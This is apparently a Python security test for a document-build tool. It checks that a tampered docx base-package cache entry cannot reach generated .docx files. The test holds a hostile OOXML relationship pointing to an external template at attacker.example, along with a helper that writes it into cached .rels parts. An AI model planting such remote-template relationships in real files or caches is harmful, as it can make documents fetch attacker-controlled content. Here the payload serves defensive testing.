"""V5 for the docx base-package cache: an edited entry must not reach a generated .docx."""

from __future__ import annotations

import base64
import json
import shutil
import zipfile
from pathlib import Path

from tests.security.conftest import WORK, no_traceback, zhidu

EVIL = (
    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


def _poison(entry: Path) -> bool:
    """Add an external template relationship to every .rels part of a cached base; True when one was found."""
    raw = entry.read_bytes()
    # A plain JSON entry, or one behind a 32-byte tag: the attacker keeps whatever prefix there is.
    start = 0 if raw.startswith(b'{"parts"') else 32
    data = json.loads(raw[start:])
    hit = False
    for name, b64 in data["parts"].items():
        if name.endswith(".rels"):
            xml = base64.b64decode(b64).decode("utf-8").replace("</Relationships>", EVIL)
            data["parts"][name] = base64.b64encode(xml.encode()).decode()
            hit = True
    entry.write_bytes(raw[:start] + json.dumps(data).encode())
    return hit


def test_v5_edited_docx_base_entry_is_ignored(tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    shutil.copytree(WORK, proj / "policy" / "w")
    args = ("--format", "docx", "--product", "notice,duty-card")
    first = zhidu("build", "policy", "-o", "first", *args, cwd=proj)
    assert first.returncode == 0, first.stderr
    entries = list((proj / ".cache-home" / "zhidu" / "docx-base").glob("*.json"))
    assert entries and all([_poison(e) for e in entries])
    second = zhidu("build", "policy", "-o", "second", *args, cwd=proj)
    no_traceback(second)
    assert second.returncode == 0
    docs = list((proj / "second").rglob("*.docx"))
    assert docs
    for d in docs:
        with zipfile.ZipFile(d) as z:
            assert not any(b"attacker.example" in z.read(n) for n in z.namelist()), d
        assert d.read_bytes() == (proj / "first" / d.relative_to(proj / "second")).read_bytes()
